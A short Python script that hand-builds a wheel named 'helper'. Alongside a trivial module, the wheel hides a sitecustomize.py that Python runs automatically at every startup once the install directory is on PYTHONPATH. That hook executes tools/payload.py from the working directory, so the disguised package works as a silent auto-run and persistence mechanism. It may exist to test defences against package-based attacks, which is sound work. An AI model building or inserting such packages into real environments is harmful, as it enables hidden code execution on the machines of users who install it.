# mkwheel.py: builds dist/helper-1.0-py3-none-any.whl by hand (a wheel is a zip with its
# metadata; no build tool needed). The wheel ships a sitecustomize.py: pip installs it into the
# --target directory, and the next python with that directory on PYTHONPATH runs it at start.
import base64
import hashlib
import os
import zipfile

FILES = {
    "helper/__init__.py": 'VERSION = "1.0"\n',
    "sitecustomize.py": (
        "import os, runpy\n"
        "p = os.path.join(os.getcwd(), 'tools', 'payload.py')\n"
        "if os.path.exists(p):\n"
        "    runpy.run_path(p)\n"
    ),
    "helper-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: helper\nVersion: 1.0\n",
    "helper-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: mkwheel\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}


def digest(data):
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


os.makedirs("dist", exist_ok=True)
with zipfile.ZipFile("dist/helper-1.0-py3-none-any.whl", "w") as z:
    record = []
    for name, text in FILES.items():
        data = text.encode()
        z.writestr(name, data)
        record.append("%s,%s,%d" % (name, digest(data), len(data)))
    record.append("helper-1.0.dist-info/RECORD,,")
    z.writestr("helper-1.0.dist-info/RECORD", "\n".join(record) + "\n")
